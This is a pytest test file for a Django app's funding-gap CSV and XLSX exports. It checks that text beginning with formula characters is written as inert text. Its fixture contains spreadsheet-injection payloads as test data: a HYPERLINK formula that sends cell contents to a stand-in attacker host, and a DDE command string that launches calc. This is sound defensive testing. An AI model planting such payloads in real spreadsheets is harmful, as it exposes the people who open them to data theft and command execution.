"""Spreadsheet downloads never carry formulas (DESIGN "Resources", issue 10 #9).

An action titled `=HYPERLINK(...)` used to become a formula cell in the public funding-gap XLSX
and a `=` field in the CSV. Text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
is now written as text: in CSV behind an apostrophe, in XLSX as a string cell; numbers stay
numbers (a negative number too)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from lap import spreadsheets
from lap.models import Commitment
from lap.services import resources as services
from tests.factories import ActionFactory, DistrictFactory, ObjectiveFactory, OrganizationFactory

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.fixture
def hostile(world, db):
    """For each dangerous start: an action title, an objective title, a district name and the
    name of an organization that committed, all starting with it."""
    texts = {start: f"{start}{PAYLOAD}" for start in DANGEROUS}
    for index, (start, text) in enumerate(texts.items()):
        organization = OrganizationFactory(name=f"{start}SUM(1+{index})", sector="company")
        action = ActionFactory(
            title=text,
            state="approved",
            proposing_organization=world.smallholder,
            objective=ObjectiveFactory(code=f"X{index}", title=f"{start}objective {index}"),
            districts=[DistrictFactory(ubigeo=f"22059{index}", name=f"{start}district {index}")],
        )
        need = services.need_create(
            acting_user=world.coordinator,
            action=action,
            kind="finance",
            amount="100",
            unit="PEN",
            description=f"{start}cmd|' /C calc'!A0",
        )
        # Straight in the database: the organization need not have a representative here.
        Commitment.objects.create(
            need=need,
            organization=organization,
            amount=Decimal("40"),
            unit="PEN",
            expected_on="2026-01-05",
            status="confirmed",
            committed_by=world.coordinator,
        )
    return texts


def _hostile_texts(texts) -> set[str]:
    return {
        *texts.values(),
        *(f"{start}SUM(1+{index})" for index, start in enumerate(DANGEROUS)),
        *(f"{start}objective {index}" for index, start in enumerate(DANGEROUS)),
        *(f"{start}district {index}" for index, start in enumerate(DANGEROUS)),
    }


def test_the_csv_writes_every_text_that_starts_like_a_formula_behind_an_apostrophe(client, hostile):
    client.cookies["django_language"] = "en"
    content = client.get(reverse("resources-funding-gaps-csv")).getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    fields = [field for row in rows for field in row]
    written = {field for field in fields if field.startswith("'")}
    assert {f"'{text}" for text in _hostile_texts(hostile)} <= written
    # No field starts with a dangerous character: neither texts nor anything else.
    assert not [field for field in fields if field.startswith(tuple(DANGEROUS))]
    # Numbers stay plain numbers.
    action_rows = [row for row in rows if row[0] == "action"]
    assert {row[5] for row in action_rows} == {"100.00"}  # need
    assert {row[7] for row in action_rows} == {"40.00"}  # confirmed


def test_the_xlsx_writes_them_as_string_cells_and_numbers_as_numbers(client, hostile):
    client.cookies["django_language"] = "en"
    content = client.get(reverse("resources-funding-gaps-xlsx")).getvalue()
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in _hostile_texts(hostile):
        # Exactly the text (a carriage return included), as text, never a formula.
        assert by_value[text].data_type == "s", text
    action_rows = [row for row in sheet.iter_rows() if row[0].value == "action"]
    assert len(action_rows) == len(DANGEROUS)
    for row in action_rows:
        assert (row[5].value, row[5].data_type) == (100, "n")
        assert (row[7].value, row[7].data_type) == (40, "n")
        assert row[2].data_type == "n"  # the action's id


def test_the_raw_xlsx_has_no_formula_element(client, hostile):
    import zipfile

    content = client.get(reverse("resources-funding-gaps-xlsx")).getvalue()
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "HYPERLINK" in sheet  # present, as text


@pytest.mark.parametrize("start", DANGEROUS)
def test_the_helper_writes_text_as_text_and_numbers_as_numbers(start):
    row = [f"{start}1+1", Decimal("-5.00"), -3, "plain", None, "a=b"]
    text = spreadsheets.csv_text([row], header=["-header", "b", "c", "d", "e", "f"])
    header, values = list(csv.reader(io.StringIO(text)))
    assert header[0] == "'-header"
    assert values == [f"'{start}1+1", "-5.00", "-3", "plain", "", "a=b"]
    content = spreadsheets.xlsx_bytes([row], title="t", number_formats={1: "#,##0.00"})
    cells = next(iter(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()))
    assert (cells[0].value, cells[0].data_type) == (f"{start}1+1", "s")
    assert (cells[1].value, cells[1].data_type) == (-5, "n")
    assert cells[1].number_format == "#,##0.00"
    assert (cells[2].value, cells[2].data_type) == (-3, "n")
    assert cells[4].value is None
    assert (cells[5].value, cells[5].data_type) == ("a=b", "s")
